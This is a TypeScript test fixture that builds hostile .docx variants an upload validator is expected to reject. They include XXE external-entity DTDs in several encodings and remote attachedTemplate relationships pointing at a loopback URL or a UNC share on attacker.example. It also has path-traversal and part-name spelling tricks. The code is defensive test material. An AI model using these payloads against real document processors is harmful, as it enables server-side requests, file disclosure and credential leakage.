// Hostile .docx packages from issue 23 (finding 2) and their relatives: each one must be refused
// (415) and nothing stored. Built from a real package (our renderer's) by rewriting entries.
import { zipSync, unzipSync } from "fflate";
import { renderedDocx, rewrite } from "./docx-fixtures.ts";

const ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
const EVIL = "http://127.0.0.1:9/evil.dotm";

const relationships = (attributes: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ATTACHED_TEMPLATE}" ${attributes}/></Relationships>`;

const settingsWithDtd = (declaration: string) =>
  `${declaration}<!DOCTYPE w:settings [<!ENTITY xxe SYSTEM "${EVIL}">]><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate w:val="&xxe;"/></w:settings>`;

const utf16le = (text: string, bom = false) =>
  new Uint8Array(Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, "utf16le")]));
const utf16be = (text: string) => {
  const bytes = Buffer.from(text, "utf16le");
  bytes.swap16();
  return new Uint8Array(bytes);
};

/** The package with one entry renamed (the zip spells the name as given, backslashes and all). */
function renamed(docx: Uint8Array, from: string, to: string): Uint8Array {
  const entries = unzipSync(docx);
  const data = entries[from]!;
  delete entries[from];
  entries[to] = data;
  return zipSync(entries);
}

export interface HostileVariant {
  what: string;
  docx: Uint8Array;
  /** What the refusal's message says. */
  message: RegExp;
}

export async function hostileVariants(): Promise<HostileVariant[]> {
  const good = await renderedDocx();
  const template = relationships(`Target="${EVIL}" TargetMode="External"`);
  const v = (what: string, docx: Uint8Array, message: RegExp): HostileVariant => ({ what, docx, message });
  return [
    v(
      "a BOM-less UTF-16LE settings.xml with a DTD and an external entity",
      rewrite(good, { "word/settings.xml": utf16le(settingsWithDtd('<?xml version="1.0" encoding="UTF-16"?>')) }),
      /settings\.xml contains a DTD/,
    ),
    v(
      "a UTF-16LE settings.xml with a BOM and a DTD",
      rewrite(good, { "word/settings.xml": utf16le(settingsWithDtd('<?xml version="1.0" encoding="UTF-16"?>'), true) }),
      /settings\.xml contains a DTD/,
    ),
    v(
      "a BOM-less UTF-16BE settings.xml with a DTD",
      rewrite(good, { "word/settings.xml": utf16be(settingsWithDtd('<?xml version="1.0" encoding="UTF-16"?>')) }),
      /settings\.xml contains a DTD/,
    ),
    v(
      "a UTF-16 settings.xml without a declaration",
      rewrite(good, { "word/settings.xml": utf16le(settingsWithDtd("")) }),
      /settings\.xml contains a DTD/,
    ),
    v(
      "a DTD after a comment and whitespace",
      rewrite(good, { "word/settings.xml": settingsWithDtd('<?xml version="1.0"?>\n<!-- x -->\n') }),
      /contains a DTD/,
    ),
    v(
      "an ISO-8859-1 part with a DTD",
      rewrite(good, { "word/settings.xml": settingsWithDtd('<?xml version="1.0" encoding="ISO-8859-1"?>') }),
      /contains a DTD/,
    ),
    v(
      "an entity used without a DTD",
      rewrite(good, { "word/document.xml": (xml) => xml.replace("Title", "&xxe;") }),
      /not well-formed XML/,
    ),
    v(
      "a part declaring UTF-16 in single bytes",
      rewrite(good, {
        "word/settings.xml":
          '<?xml version="1.0" encoding="UTF-16"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      }),
      /declares UTF-16/,
    ),
    v(
      "a part in an encoding XML readers disagree on",
      rewrite(good, {
        "word/settings.xml":
          '<?xml version="1.0" encoding="UTF-7"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      }),
      /encoding we do not read/,
    ),
    v(
      "a UTF-8 part with malformed bytes",
      rewrite(good, {
        "word/settings.xml": new Uint8Array([...Buffer.from('<?xml version="1.0"?><a>'), 0xc3, 0x28, ...Buffer.from("</a>")]),
      }),
      /not valid UTF-8/,
    ),
    v(
      "an external attachedTemplate to a loopback URL",
      rewrite(good, { "word/_rels/settings.xml.rels": template }),
      /external attachedTemplate relationship/,
    ),
    v(
      'TargetMode="External " (trailing space)',
      rewrite(good, { "word/_rels/settings.xml.rels": relationships(`Target="${EVIL}" TargetMode="External "`) }),
      /external attachedTemplate/,
    ),
    v(
      "TargetMode with a tab and a newline",
      rewrite(good, { "word/_rels/settings.xml.rels": relationships(`Target="${EVIL}" TargetMode="&#9;External&#10;"`) }),
      /external attachedTemplate/,
    ),
    v(
      "an unknown TargetMode",
      rewrite(good, { "word/_rels/settings.xml.rels": relationships(`Target="${EVIL}" TargetMode="external"`) }),
      /neither Internal nor External/,
    ),
    v(
      "an absolute target without TargetMode",
      rewrite(good, { "word/_rels/settings.xml.rels": relationships(`Target="${EVIL}"`) }),
      /external attachedTemplate/,
    ),
    v(
      "a UNC target without TargetMode",
      rewrite(good, { "word/_rels/settings.xml.rels": relationships(`Target="\\\\attacker.example\\share\\t.dotm"`) }),
      /external attachedTemplate/,
    ),
    v(
      "a relationships part named word\\_rels\\…",
      rewrite(good, { "word\\_rels\\settings.xml.rels": template }),
      /external attachedTemplate/,
    ),
    v(
      "a relationships part named word/%5Frels/…",
      rewrite(good, { "word/%5Frels/settings.xml.rels": template }),
      /external attachedTemplate/,
    ),
    v(
      "a relationships part in other letter case",
      rewrite(good, { "WORD/_RELS/Settings.XML.rels": template }),
      /external attachedTemplate/,
    ),
    v(
      "the package's own relationships spelt _rels\\.rels",
      renamed(
        rewrite(good, {
          "_rels/.rels": (xml) =>
            xml.replace(
              "</Relationships>",
              `<Relationship Id="rX" Type="${ATTACHED_TEMPLATE}" Target="${EVIL}" TargetMode="External"/></Relationships>`,
            ),
        }),
        "_rels/.rels",
        "_rels\\.rels",
      ),
      /external attachedTemplate/,
    ),
    v(
      "one part spelt two ways",
      rewrite(good, {
        "word\\settings.xml": '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      }),
      /holds the part word\/settings\.xml twice/,
    ),
    v("a dot segment in a part name", rewrite(good, { "word/../../evil.xml": "<a/>" }), /dot segment/),
    v(
      "a DTD in a part not named .xml that starts like XML",
      rewrite(good, { "word/media/data.bin": settingsWithDtd('<?xml version="1.0"?>') }),
      /data\.bin contains a DTD/,
    ),
    v("XML that is not well-formed", rewrite(good, { "word/settings.xml": "<w:settings><w:b></w:settings>" }), /not well-formed XML/),
  ];
}
